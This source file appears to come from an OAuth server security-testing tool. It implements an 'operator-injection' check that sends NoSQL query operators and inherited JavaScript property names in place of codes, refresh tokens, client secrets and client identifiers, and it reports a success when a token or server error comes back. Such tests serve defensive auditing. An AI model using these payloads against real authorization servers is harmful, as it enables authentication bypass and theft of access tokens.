/** Attacks with values that are not strings. */
import { type Attack, succeeded, withstood } from '../attack.js';
import type { AttackContext } from '../context.js';
import { membersOf, type Page, send } from '../http.js';
import { basic, credentials } from '../request.js';
import { honestFields, memberOf } from './answer.js';

type Members = Readonly<Record<string, unknown>>;

const JSON_TYPE = { 'content-type': 'application/json' };

/** Query conditions of document databases: body parsers turn them into objects, and each condition matches nearly every string. */
const OPERATORS: readonly { readonly suffix: string; readonly text: string; readonly json: unknown }[] = [
  { suffix: '[$ne]', text: 'x', json: { $ne: 'x' } },
  { suffix: '[$gt]', text: '', json: { $gt: '' } },
  { suffix: '[$regex]', text: '.*', json: { $regex: '.*' } },
  { suffix: '[$exists]', text: 'true', json: { $exists: true } },
  { suffix: '[]', text: 'x', json: ['x'] },
];

/** Names that every JavaScript object inherits. */
const INHERITED = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];

interface Injected {
  readonly what: string;
  readonly body: string;
  readonly type: 'form' | 'json';
}

/** Requests in which one parameter is a condition instead of a value, as a form and as JSON. */
function conditions(name: string, fields: Members): readonly Injected[] {
  const { [name]: _, ...rest } = fields;
  const form = Object.entries(rest).map(([key, value]): [string, string] => [key, String(value)]);
  return OPERATORS.flatMap(({ suffix, text, json }) => [
    {
      what: `${name}${suffix}`,
      type: 'form' as const,
      body: new URLSearchParams([...form, [`${name}${suffix}`, text]]).toString(),
    },
    {
      what: `${name}: ${JSON.stringify(json)}`,
      type: 'json' as const,
      body: JSON.stringify({ ...rest, [name]: json }),
    },
  ]);
}

/** Requests with an inherited name, as a value and as the name of a parameter. */
function inherited(fields: Members): readonly Injected[] {
  const form = (more: Members): string =>
    new URLSearchParams({ ...fields, ...more } as Record<string, string>).toString();
  return INHERITED.flatMap((name) => [
    { what: `grant_type=${name}`, type: 'form' as const, body: form({ grant_type: name }) },
    { what: `code=${name}`, type: 'form' as const, body: form({ code: name }) },
    { what: `${name}[code]`, type: 'form' as const, body: `${form({ code: '' })}&${name}[code]=x` },
    { what: `${name}: {}`, type: 'json' as const, body: `{"${name}":{"code":"x"},"grant_type":"authorization_code"}` },
  ]);
}

/** Describes what the attacker got; undefined if nothing. */
function gain({ what }: Injected, page: Page): string | undefined {
  if (page.status >= 500) return `${what} made the server fail: ${page.status}`;
  const got = memberOf(page, 'access_token') ?? (membersOf(page)['active'] === true ? 'active' : undefined);
  return got === undefined ? undefined : `${what} was a condition that matched`;
}

async function inject(
  injected: readonly Injected[],
  url: string,
  headers: Readonly<Record<string, string>>,
): Promise<string | undefined> {
  for (const each of injected) {
    const sent =
      each.type === 'json'
        ? { body: each.body, headers: { ...headers, ...JSON_TYPE } }
        : { body: new URLSearchParams(each.body), headers };
    const found = gain(each, await send(url, { method: 'POST', ...sent }));
    if (found !== undefined) return found;
  }
  return undefined;
}

/** Requests of clients whose identifier is an inherited name. */
async function impersonateInherited(token: string): Promise<string | undefined> {
  for (const client_id of INHERITED) {
    const headers = { authorization: basic({ client_id, client_secret: 'x' }) };
    const request = { what: `client_id=${client_id}`, type: 'form', body: 'grant_type=client_credentials' } as const;
    const found = await inject([request], token, headers);
    if (found !== undefined) return found;
  }
  return undefined;
}

async function injectAll(context: AttackContext): Promise<string | undefined> {
  const { client } = context.target;
  const { token, introspection } = context.endpoints;
  const { headers, fields: own } = credentials(client);
  const honest = { ...own, ...(await honestFields(context, client)) };
  const { client_id } = client;
  return (
    (await inject(conditions('code', honest), token, headers)) ??
    (await inject(conditions('refresh_token', { ...own, grant_type: 'refresh_token' }), token, headers)) ??
    // only two, because a server may throttle them
    (await inject(conditions('client_secret', { ...honest, client_id }).slice(0, 2), token, {})) ??
    (await inject(inherited(honest), token, headers)) ??
    (await impersonateInherited(token)) ??
    (introspection && (await inject(conditions('token', own), introspection, headers))) ??
    undefined
  );
}

export const operatorInjection: Attack = {
  name: 'operator-injection',
  title: 'a database condition is sent instead of a credential',
  clause: 'RFC 6749 §10.14',
  async run(context) {
    await context.obtainTokens(context.target.client); // so that the store has records that a condition could match
    const found = await injectAll(context);
    return found === undefined ? withstood : succeeded(found);
  },
};
